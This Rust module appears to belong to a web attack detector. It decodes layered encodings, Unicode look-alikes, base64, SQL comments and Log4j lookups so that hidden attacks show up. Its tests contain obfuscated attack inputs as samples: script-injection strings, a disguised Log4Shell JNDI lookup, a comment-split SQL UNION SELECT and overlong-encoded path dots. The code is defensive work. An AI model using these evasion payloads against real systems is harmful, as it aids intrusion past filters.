//! What a value looks like once its encodings are taken off, one round at a time.
//!
//! One round takes off all encodings together, in one pass, and never makes the value longer.

use super::text::{at, contains, from, slice, trim};

/// What the encodings of a view hid.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) struct Hidden {
    /// How many rounds of decoding came before it.
    pub(crate) rounds: u8,
    /// A dot was written in an encoding, or anything in an overlong form.
    pub(crate) dots: bool,
}

/// A value with one round of encodings taken off, or nothing where there are none.
pub(crate) fn decode(input: &[u8], plus_is_space: bool, hidden: &mut Hidden) -> Option<Vec<u8>> {
    let first = input.iter().position(|&byte| may_be_encoded(byte, plus_is_space))?;
    let mut out: Option<Vec<u8>> = None;
    let mut index = first;
    // Everything before `copied` is in `out`, once there is one.
    let mut copied = 0;
    while let Some(&byte) = input.get(index) {
        if !may_be_encoded(byte, plus_is_space) {
            index += 1;
            continue;
        }
        let Some(unit) = decode_one(input, index, plus_is_space) else {
            index += if byte >= 0x80 { character_length(input, index) } else { 1 };
            continue;
        };
        let out = out.get_or_insert_with(|| Vec::with_capacity(input.len()));
        out.extend_from_slice(slice(input, copied, index));
        if unit.overlong || unit.decoded == Decoded::Byte(b'.') {
            hidden.dots = true;
        }
        match unit.decoded {
            Decoded::Nothing => {}
            Decoded::Byte(byte) => out.push(byte),
            Decoded::Character(character) => {
                out.extend_from_slice(character.encode_utf8(&mut [0; 4]).as_bytes());
            }
        }
        index += unit.length;
        copied = index;
    }
    let mut out = out?;
    out.extend_from_slice(from(input, copied));
    hidden.rounds = hidden.rounds.saturating_add(1);
    Some(out)
}

#[derive(Clone, Copy, PartialEq)]
enum Decoded {
    Nothing,
    Byte(u8),
    Character(char),
}

struct Unit {
    length: usize,
    decoded: Decoded,
    overlong: bool,
}

impl Unit {
    fn byte(length: usize, byte: u8) -> Option<Self> {
        Some(Self { length, decoded: Decoded::Byte(byte), overlong: false })
    }

    fn overlong(length: usize, byte: u8) -> Option<Self> {
        Some(Self { length, decoded: Decoded::Byte(byte), overlong: true })
    }

    /// A code point, as the ASCII character that it is taken for if there is one.
    fn code_point(length: usize, value: u32) -> Option<Self> {
        if let Some(folded) = fold(value) {
            return Some(Self { length, decoded: folded, overlong: false });
        }
        match u8::try_from(value) {
            Ok(byte) if byte < 0x80 => Self::byte(length, byte),
            _ => {
                let character = char::from_u32(value)?;
                Some(Self { length, decoded: Decoded::Character(character), overlong: false })
            }
        }
    }
}

#[inline]
fn may_be_encoded(byte: u8, plus_is_space: bool) -> bool {
    byte >= 0x80 || matches!(byte, b'%' | b'&' | b'\\' | 0) || (plus_is_space && byte == b'+')
}

fn decode_one(input: &[u8], index: usize, plus_is_space: bool) -> Option<Unit> {
    match at(input, index) {
        b'%' => percent(input, index),
        b'&' => entity(input, index),
        b'\\' => escape(input, index),
        b'+' if plus_is_space => Unit::byte(1, b' '),
        // Databases and browsers skip it, or stop at it; either way what stands around it comes together.
        0 => Some(Unit { length: 1, decoded: Decoded::Nothing, overlong: false }),
        byte if byte >= 0x80 => wide(input, index),
        _ => None,
    }
}

fn percent(input: &[u8], index: usize) -> Option<Unit> {
    if at(input, index + 1) | 0x20 == b'u' {
        return Unit::code_point(6, hexadecimal(slice(input, index + 2, index + 6), 4)?);
    }
    let value = hexadecimal(slice(input, index + 1, index + 3), 2)?;
    Unit::byte(3, u8::try_from(value).ok()?)
}

/// `\xNN`, `\uNNNN`, `\u{N…}`, `\NNN`.
fn escape(input: &[u8], index: usize) -> Option<Unit> {
    match at(input, index + 1) {
        b'x' | b'X' => {
            let value = hexadecimal(slice(input, index + 2, index + 4), 2)?;
            Unit::byte(4, u8::try_from(value).ok()?)
        }
        b'u' | b'U' if at(input, index + 2) == b'{' => {
            let digits = slice(input, index + 3, index + 10);
            let length = digits.iter().position(|&byte| byte == b'}')?;
            Unit::code_point(4 + length, hexadecimal(slice(digits, 0, length), length)?)
        }
        b'u' | b'U' => Unit::code_point(6, hexadecimal(slice(input, index + 2, index + 6), 4)?),
        b'0'..=b'3' => {
            let digits = slice(input, index + 1, index + 4);
            let is_octal = |byte: &u8| (b'0'..=b'7').contains(byte);
            if digits.len() < 3 || !digits.iter().all(is_octal) {
                return None;
            }
            let value = digits.iter().fold(0u32, |sum, byte| sum * 8 + u32::from(byte - b'0'));
            Unit::byte(4, u8::try_from(value).ok()?)
        }
        // `\74` of scripts: two digits, where a third cannot follow.
        b'4'..=b'7' => {
            let (first, second) = (at(input, index + 1) - b'0', at(input, index + 2));
            if !(b'0'..=b'7').contains(&second) || at(input, index + 3).is_ascii_digit() {
                return None;
            }
            Unit::byte(3, first * 8 + (second - b'0'))
        }
        _ => None,
    }
}

/// A character reference of HTML, with or without its semicolon.
fn entity(input: &[u8], index: usize) -> Option<Unit> {
    // Leading zeros are allowed, in numbers that fit; longer ones are not what a parser gets to see.
    const DIGITS_MAX: usize = 12;
    const NAME_MAX: usize = 12;
    if at(input, index + 1) == b'#' {
        let is_hexadecimal = at(input, index + 2) | 0x20 == b'x';
        let start = index + if is_hexadecimal { 3 } else { 2 };
        let digits = slice(input, start, start + DIGITS_MAX);
        let of_kind = |byte: &u8| {
            if is_hexadecimal { byte.is_ascii_hexdigit() } else { byte.is_ascii_digit() }
        };
        let length = digits.iter().position(|byte| !of_kind(byte)).unwrap_or(digits.len());
        if length == 0 {
            return None;
        }
        let radix = if is_hexadecimal { 16 } else { 10 };
        let text = std::str::from_utf8(slice(digits, 0, length)).ok()?;
        let value = u32::from_str_radix(text, radix).ok()?;
        let end = start + length;
        let end = end + usize::from(at(input, end) == b';');
        return Unit::code_point(end - index, value);
    }
    let name = slice(input, index + 1, index + 1 + NAME_MAX);
    let length = name.iter().position(|byte| !byte.is_ascii_alphanumeric()).unwrap_or(name.len());
    let name = slice(name, 0, length);
    let end = index + 1 + length;
    if at(input, end) == b';' {
        return Unit::byte(length + 2, named(name)?);
    }
    // The old names work without a semicolon, too.
    for old in [&b"lt"[..], b"gt", b"quot", b"amp", b"LT", b"GT", b"QUOT", b"AMP"] {
        if name == old {
            return Unit::byte(1 + length, named(old)?);
        }
    }
    None
}

fn named(name: &[u8]) -> Option<u8> {
    let lower = name.to_ascii_lowercase();
    Some(match lower.as_slice() {
        b"lt" => b'<',
        b"gt" => b'>',
        b"quot" => b'"',
        b"apos" => b'\'',
        b"amp" => b'&',
        b"colon" => b':',
        b"lpar" => b'(',
        b"rpar" => b')',
        b"tab" => b'\t',
        b"newline" => b'\n',
        b"nbsp" => b' ',
        b"sol" => b'/',
        b"bsol" => b'\\',
        b"lbrace" | b"lcub" => b'{',
        b"rbrace" | b"rcub" => b'}',
        b"lbrack" | b"lsqb" => b'[',
        b"rbrack" | b"rsqb" => b']',
        b"grave" | b"diacriticalgrave" => b'`',
        b"excl" => b'!',
        b"equals" => b'=',
        b"plus" => b'+',
        b"comma" => b',',
        b"period" => b'.',
        b"num" => b'#',
        b"dollar" => b'$',
        b"percnt" => b'%',
        b"ast" | b"midast" => b'*',
        b"semi" => b';',
        b"quest" => b'?',
        b"commat" => b'@',
        b"lowbar" => b'_',
        b"verbar" | b"vert" => b'|',
        _ => return None,
    })
}

/// Bytes above ASCII: overlong forms, and characters that are taken for ASCII.
fn wide(input: &[u8], index: usize) -> Option<Unit> {
    let (first, second, third) = (at(input, index), at(input, index + 1), at(input, index + 2));
    match first {
        // Lax decoders take only the low bits of what follows.
        0xc0 | 0xc1 if (0x20..0xc0).contains(&second) => {
            let byte = ((first & 1) << 6) | (second & 0x3f);
            let byte = if second < 0x80 { second } else { byte };
            Unit::overlong(2, byte)
        }
        0xe0 if (0x80..0xa0).contains(&second) && third & 0xc0 == 0x80 => {
            let value = (u32::from(second & 0x1f) << 6) | u32::from(third & 0x3f);
            let byte = u8::try_from(value).ok()?;
            (byte < 0x80).then(|| Unit::overlong(3, byte))?
        }
        0xf0 if second == 0x80 && third & 0xfe == 0x80 => {
            let fourth = at(input, index + 3);
            if fourth & 0xc0 != 0x80 {
                return None;
            }
            Unit::overlong(4, ((third & 1) << 6) | (fourth & 0x3f))
        }
        _ => {
            let length = character_length(input, index);
            let text = std::str::from_utf8(slice(input, index, index + length)).ok()?;
            let decoded = fold(u32::from(text.chars().next()?))?;
            Some(Unit { length, decoded, overlong: false })
        }
    }
}

/// How long the character is that begins there; 1 where it is not valid.
fn character_length(input: &[u8], index: usize) -> usize {
    let length = match at(input, index) {
        0xc2..=0xdf => 2,
        0xe0..=0xef => 3,
        0xf0..=0xf4 => 4,
        _ => 1,
    };
    if std::str::from_utf8(slice(input, index, index + length)).is_ok() { length } else { 1 }
}

/// What a look-alike becomes in normalisation (NFKC) or in the best fit of older character sets.
fn fold(value: u32) -> Option<Decoded> {
    let letter = |base: u8, offset: u32| {
        u8::try_from(offset).ok().map(|offset| Decoded::Byte(base.wrapping_add(offset)))
    };
    match value {
        // Full width.
        0xff01..=0xff5e => letter(b'!', value - 0xff01),
        // In circles.
        0x24b6..=0x24cf => letter(b'A', value - 0x24b6),
        0x24d0..=0x24e9 => letter(b'a', value - 0x24d0),
        0x2460..=0x2468 => letter(b'1', value - 0x2460),
        0x24ea => Some(Decoded::Byte(b'0')),
        // Mathematical letters, in alphabets of 52, and digits.
        0x1d400..=0x1d6a3 => {
            let offset = (value - 0x1d400) % 52;
            if offset < 26 { letter(b'A', offset) } else { letter(b'a', offset - 26) }
        }
        0x1d7ce..=0x1d7ff => letter(b'0', (value - 0x1d7ce) % 10),
        0x17f => Some(Decoded::Byte(b's')),
        0x212a => Some(Decoded::Byte(b'K')),
        0x131 => Some(Decoded::Byte(b'i')),
        0x2b9 | 0x2bc | 0x2c8 | 0x2032 | 0xfe10 => Some(Decoded::Byte(b'\'')),
        0x2ba | 0x2033 => Some(Decoded::Byte(b'"')),
        0x2044 | 0x2215 | 0x29f8 => Some(Decoded::Byte(b'/')),
        0x2216 | 0x29f5 | 0x29f9 | 0xfe68 => Some(Decoded::Byte(b'\\')),
        0x2024 | 0xfe52 => Some(Decoded::Byte(b'.')),
        0x2025 => None,
        0x2039 | 0xfe64 | 0x3008 | 0x2329 => Some(Decoded::Byte(b'<')),
        0x203a | 0xfe65 | 0x3009 | 0x232a => Some(Decoded::Byte(b'>')),
        0xfe54 => Some(Decoded::Byte(b';')),
        0xfe55 => Some(Decoded::Byte(b':')),
        0xfe59 => Some(Decoded::Byte(b'(')),
        0xfe5a => Some(Decoded::Byte(b')')),
        0xfe5b => Some(Decoded::Byte(b'{')),
        0xfe5c => Some(Decoded::Byte(b'}')),
        0xfe66 => Some(Decoded::Byte(b'=')),
        // Their low bytes are carriage return and line feed.
        0x560d => Some(Decoded::Byte(b'\r')),
        0x560a => Some(Decoded::Byte(b'\n')),
        0xa0 | 0x2000..=0x200a | 0x2028 | 0x2029 | 0x202f | 0x205f | 0x3000 => {
            Some(Decoded::Byte(b' '))
        }
        0xad | 0x200b..=0x200d | 0x2060 | 0xfeff => Some(Decoded::Nothing),
        _ => None,
    }
}

fn hexadecimal(digits: &[u8], count: usize) -> Option<u32> {
    if digits.len() != count || count == 0 {
        return None;
    }
    let mut value = 0u32;
    for &digit in digits {
        value = value.checked_mul(16)?.checked_add((digit as char).to_digit(16)?)?;
    }
    Some(value)
}

/// The text behind base64, where the value looks like that and gives text.
pub(crate) fn from_base64(value: &[u8]) -> Option<Vec<u8>> {
    const ENCODED_MIN: usize = 12;
    let mut value = trim(value);
    if let Some(start) = super::text::find(slice(value, 0, 128), b";base64,") {
        value = from(value, start + 8);
    }
    let value = value.trim_suffix_bytes(b'=');
    if value.len() < ENCODED_MIN || value.len() % 4 == 1 {
        return None;
    }
    // It grows with what is text: an image ends after its first bytes.
    let mut out = Vec::with_capacity(64);
    let (mut bits, mut count) = (0u32, 0u8);
    for &byte in value {
        let digit = match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' | b'-' | b' ' => 62,
            b'/' | b'_' => 63,
            b'\r' | b'\n' => continue,
            _ => return None,
        };
        bits = (bits << 6) | u32::from(digit);
        count += 6;
        if count >= 8 {
            count -= 8;
            out.push(u8::try_from((bits >> count) & 0xff).ok()?);
            // Random bytes are not text: it shows soon.
            if out.len() == 48 && !is_text(&out) {
                return None;
            }
        }
    }
    is_text(&out).then_some(out)
}

fn is_text(bytes: &[u8]) -> bool {
    let odd = bytes
        .iter()
        .filter(|byte| !(byte.is_ascii_graphic() || byte.is_ascii_whitespace()))
        .count();
    odd * 10 <= bytes.len() && !bytes.is_empty()
}

trait TrimSuffix {
    fn trim_suffix_bytes(&self, byte: u8) -> &[u8];
}

impl TrimSuffix for [u8] {
    fn trim_suffix_bytes(&self, byte: u8) -> &[u8] {
        let end = self.iter().rposition(|&other| other != byte).map_or(0, |last| last + 1);
        slice(self, 0, end)
    }
}

/// The value without comments of C, and with what MySQL reads in `/*!50000 … */`; nothing where there are none.
pub(crate) fn without_comments(value: &[u8]) -> Option<Vec<u8>> {
    if !contains(value, b"/*") {
        return None;
    }
    let mut out = Vec::with_capacity(value.len());
    let mut index = 0;
    while let Some(&byte) = value.get(index) {
        if byte == b'/' && at(value, index + 1) == b'*' {
            if at(value, index + 2) == b'!' {
                index += 3;
                index = super::text::skip(value, index, |byte| byte.is_ascii_digit());
                continue;
            }
            match super::text::find(from(value, index + 2), b"*/") {
                Some(length) => {
                    index += length + 4;
                    continue;
                }
                // Unclosed: the rest is a comment, which is for the tokens to judge.
                None => {
                    out.extend_from_slice(from(value, index));
                    return Some(out);
                }
            }
        }
        if byte == b'*' && at(value, index + 1) == b'/' {
            index += 2;
            continue;
        }
        out.push(byte);
        index += 1;
    }
    Some(out)
}

/// The value with lookups of Log4j resolved that only spell letters: `${lower:j}`, `${::-j}`, `${env:X:-j}`.
pub(crate) fn without_lookups(value: &[u8]) -> Vec<u8> {
    // Beyond these nobody spells a word, and they bound the work.
    const DEPTH_MAX: usize = 8;
    const CONTENT_MAX: usize = 256;
    let mut out: Vec<u8> = Vec::with_capacity(value.len());
    let mut open: Vec<usize> = Vec::new();
    let mut index = 0;
    while let Some(&byte) = value.get(index) {
        if byte == b'$' && at(value, index + 1) == b'{' {
            if open.len() == DEPTH_MAX {
                open.remove(0);
            }
            open.push(out.len());
            out.extend_from_slice(b"${");
            index += 2;
            continue;
        }
        index += 1;
        if byte != b'}' {
            out.push(byte);
            continue;
        }
        let Some(start) = open.pop() else {
            out.push(byte);
            continue;
        };
        let content = slice(&out, start + 2, out.len());
        if content.len() > CONTENT_MAX {
            out.push(byte);
            continue;
        }
        match resolved(content) {
            Some(text) => {
                let text = text.to_vec();
                out.truncate(start);
                out.extend_from_slice(&text);
            }
            None => out.push(byte),
        }
    }
    out
}

fn resolved(content: &[u8]) -> Option<&[u8]> {
    if content.starts_with(b"jndi") {
        return None;
    }
    if let Some(place) = super::text::find(content, b":-") {
        return Some(from(content, place + 2));
    }
    let colon = content.iter().position(|&byte| byte == b':')?;
    let name = slice(content, 0, colon);
    let rest = from(content, colon + 1);
    match name {
        b"lower" | b"upper" => Some(rest),
        b"date" => Some(rest.trim_ascii()).map(|rest| {
            let rest = rest.strip_prefix(b"'").unwrap_or(rest);
            rest.strip_suffix(b"'").unwrap_or(rest)
        }),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(input: &str, expected: Option<&str>) {
        let decoded = decode(input.as_bytes(), false, &mut Hidden::default());
        let decoded = decoded.map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
        assert_eq!(decoded.as_deref(), expected, "input {input:?}");
    }

    #[test]
    fn one_round_takes_off_one_layer_of_each_encoding() {
        check("plain", None);
        check("100% sure", None);
        check("%27", Some("'"));
        check("%2527", Some("%27"));
        check("%u0027%U0027", Some("''"));
        check(r"\x27\u0027\u{27}\047", Some("''''"));
        check(r"C:\temp\new", None);
        check("&lt;&#60;&#x3c;&#0000060&colon;", Some("<<<<:"));
        check("&copy; Tom & Jerry", None);
        check("＜ｓｃｒｉｐｔ＞", Some("<script>"));
        check("ſelect", Some("select"));
        check("naïve café", None);
        check("a\0b", Some("ab"));
        check("uni\u{200b}on", Some("union"));
    }

    #[test]
    fn overlong_forms_are_read_and_remembered() {
        for input in [&b"\xc0\xae"[..], b"\xe0\x80\xae", b"\xf0\x80\x80\xae"] {
            let mut hidden = Hidden::default();
            assert_eq!(decode(input, false, &mut hidden).as_deref(), Some(&b"."[..]));
            assert!(hidden.dots);
        }
        let mut hidden = Hidden::default();
        assert_eq!(decode(b"\xc0\x2f", false, &mut hidden).as_deref(), Some(&b"/"[..]));
    }

    #[test]
    fn base64_counts_where_text_comes_out() {
        let text = from_base64(b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==");
        assert_eq!(text.as_deref(), Some(&b"<script>alert(1)</script>"[..]));
        assert_eq!(from_base64(b"internationalization"), None);
        assert_eq!(
            from_base64(b"iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4"),
            None
        );
    }

    #[test]
    fn lookups_that_spell_letters_are_resolved() {
        let text = b"${${lower:j}${::-n}${env:X:-d}${upper:i}:ldap://x/a}";
        assert_eq!(without_lookups(text), b"${jndi:ldap://x/a}");
        assert_eq!(without_lookups(b"${user}"), b"${user}");
    }

    #[test]
    fn comments_vanish() {
        assert_eq!(
            without_comments(b"un/**/ion/*!50000select*/1").as_deref(),
            Some(&b"unionselect1"[..])
        );
        assert_eq!(without_comments(b"1/2"), None);
    }
}
